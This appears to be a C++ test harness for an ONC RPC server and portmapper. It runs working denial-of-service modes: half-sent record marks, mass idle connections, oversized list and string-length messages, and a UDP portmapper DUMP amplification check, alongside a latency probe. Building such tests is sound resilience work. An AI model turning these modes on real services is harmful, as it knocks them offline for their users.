// One attacker, or one honest client beside it; ../attacks runs them.
//   attack half_a_mark|idle|long_list|long_string PORT SECONDS
//   attack probe PORT SECONDS    calls every millisecond and says what the slowest of a hundred took, in us
//   attack dump PORT VERSION     DUMP over UDP of a portmapper, from 10.99.0.1: bytes asked and answered
#include "common.h"

#include <functional>
#include <map>

namespace {

using Bytes = std::vector<std::uint8_t>;

constexpr std::uint32_t victim = 0x20000098;
constexpr int patience = 10;  // seconds that an honest client waits

void add(Bytes& out, std::uint32_t word) {
  out.resize(out.size() + 4);
  pb::put32(out.data() + out.size() - 4, word);
}

Bytes call(std::uint32_t program, std::uint32_t version, std::uint32_t procedure) {
  Bytes out;
  for (const std::uint32_t word : {7U, 0U, 2U, program, version, procedure, 0U, 0U, 0U, 0U}) add(out, word);
  return out;
}

Bytes record(const Bytes& message) {
  Bytes out(4 + message.size());
  pb::put32(out.data(), 0x80000000U | static_cast<std::uint32_t>(message.size()));
  std::copy(message.begin(), message.end(), out.begin() + 4);
  return out;
}

// 60,000 elements.
Bytes long_list() {
  Bytes message = call(victim, 1, 1);
  for (std::uint32_t i = 0; i < 60'000; ++i) {
    add(message, 1);
    add(message, i);
  }
  add(message, 0);
  return record(message);
}

// Nothing of what it announces follows.
Bytes long_string() {
  Bytes message = call(victim, 1, 2);
  add(message, 0x70000000);
  return record(message);
}

int connect_to(int port, int type = SOCK_STREAM) {
  const int connection = ::socket(AF_INET, type, 0);
  const timeval limit{patience, 0};
  ::setsockopt(connection, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
  const sockaddr_in at = pb::addr(port);
  if (::connect(connection, reinterpret_cast<const sockaddr*>(&at), sizeof at) != 0) pb::die("connect");
  return connection;
}

// Connections that stay open until the time is over.
void hold(int connections, const Bytes& sent, int port, int seconds) {
  for (int i = 0; i < connections; ++i) {
    const int connection = connect_to(port);
    if (!sent.empty()) pb::send_all(connection, sent.data(), sent.size());
  }
  std::puts("at it");
  std::fflush(stdout);
  ::sleep(static_cast<unsigned>(seconds));
}

// The same message again and again, each on a connection of its own.
void repeat(const Bytes& sent, int port, int seconds) {
  std::puts("at it");
  std::fflush(stdout);
  for (int i = 0; i < 20 * seconds; ++i) {
    const int connection = connect_to(port);
    std::uint8_t reply[64];
    if (::send(connection, sent.data(), sent.size(), MSG_NOSIGNAL) > 0)
      (void)!::recv(connection, reply, sizeof reply, 0);
    ::close(connection);
    ::usleep(50'000);
  }
}

// The time of one call in microseconds; nothing comes of the whole where the server does not answer in time.
std::uint32_t time_of(int connection, const Bytes& sent) {
  const std::uint64_t begin = pb::now();
  std::uint8_t reply[64];
  if (::send(connection, sent.data(), sent.size(), MSG_NOSIGNAL) != static_cast<ssize_t>(sent.size()) ||
      ::recv(connection, reply, sizeof reply, 0) <= 0) {
    std::puts(pb::now() - begin > (patience - 1) * 1'000'000'000ULL ? ">10s" : "none");
    std::exit(0);
  }
  return static_cast<std::uint32_t>((pb::now() - begin) / 1000);
}

void probe(int port, int seconds) {
  const Bytes sent = record(call(victim, 1, 0));
  const int connection = connect_to(port);
  std::vector<std::uint32_t> times{time_of(connection, sent)};
  while (times.size() < static_cast<std::size_t>(seconds) * 500) {
    ::usleep(1000);
    times.push_back(time_of(connection, sent));
  }
  std::sort(times.begin(), times.end());
  std::printf("%u\n", times[times.size() * 99 / 100]);
}

void dump(int port, int version) {
  const Bytes sent = call(100'000, static_cast<std::uint32_t>(version), 4);
  const int asker = ::socket(AF_INET, SOCK_DGRAM, 0);
  // What comes from a loopback address cannot be forged: ours answers that in full.
  sockaddr_in address{};
  address.sin_family = AF_INET;
  ::inet_pton(AF_INET, "10.99.0.1", &address.sin_addr);
  if (::bind(asker, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0) std::exit(1);
  address.sin_port = htons(static_cast<std::uint16_t>(port));
  if (::connect(asker, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0) std::exit(1);
  const timeval limit{1, 0};
  ::setsockopt(asker, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
  pb::send_all(asker, sent.data(), sent.size());
  Bytes reply(65'536);
  const ssize_t size = std::max<ssize_t>(::recv(asker, reply.data(), reply.size(), 0), 0);
  std::printf("%zu %zd\n", sent.size(), size);
}

const std::map<std::string, std::function<void(int, int)>> verbs = {
    {"half_a_mark",
     [](int port, int seconds) {
       hold(1, {0x80, 0x00}, port, seconds);
     }},
    {"idle", [](int port, int seconds) { hold(100, {}, port, seconds); }},
    {"long_list", [](int port, int seconds) { repeat(long_list(), port, seconds); }},
    {"long_string", [](int port, int seconds) { repeat(long_string(), port, seconds); }},
    {"probe", probe},
    {"dump", dump},
};

}  // namespace

int main(int argc, char** argv) {
  const std::vector<std::string> arguments(argv + 1, argv + argc);
  if (arguments.size() != 3 || !verbs.contains(arguments[0])) return 2;
  verbs.at(arguments[0])(std::stoi(arguments[1]), std::stoi(arguments[2]));
}
